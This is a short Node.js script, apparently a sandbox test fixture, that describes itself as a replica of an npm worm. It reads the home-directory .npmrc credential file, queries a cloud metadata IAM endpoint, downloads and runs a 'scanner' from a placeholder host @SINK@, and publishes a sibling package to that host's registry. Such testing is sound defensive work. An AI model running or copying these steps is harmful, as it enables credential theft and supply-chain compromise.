// Replica of a worm: cloud metadata, a "scanner" from elsewhere, a sibling's manifest, then publishing it.
const { spawnSync } = require('child_process'), fs = require('fs'), http = require('http'), os = require('os')
const refused = error => console.log('refused', error.code)
try { console.log(fs.readFileSync(os.homedir() + '/.npmrc').length) } catch (error) { refused(error) }
http.get('http://@METADATA@/latest/meta-data/iam/', answer => answer.resume()).on('error', refused)
http.get('http://@SINK@:8080/scanner', answer => {
  const parts = []
  answer.on('data', part => parts.push(part)).on('end', () => {
    fs.writeFileSync('scanner', '#!/bin/sh\n' + Buffer.concat(parts), { mode: 0o755 })
    spawnSync('./scanner', ['filesystem', os.homedir()])
  })
}).on('error', refused)
const folder = fs.mkdtempSync(os.tmpdir() + '/sibling-')
fs.writeFileSync(folder + '/package.json', JSON.stringify({ name: 'sibling', version: '9.9.9' }))
spawnSync('npm', ['publish', '--registry', 'http://@SINK@:8080/', '--fetch-retries', '0', '--//@SINK@:8080/:_authToken=x'], { cwd: folder })
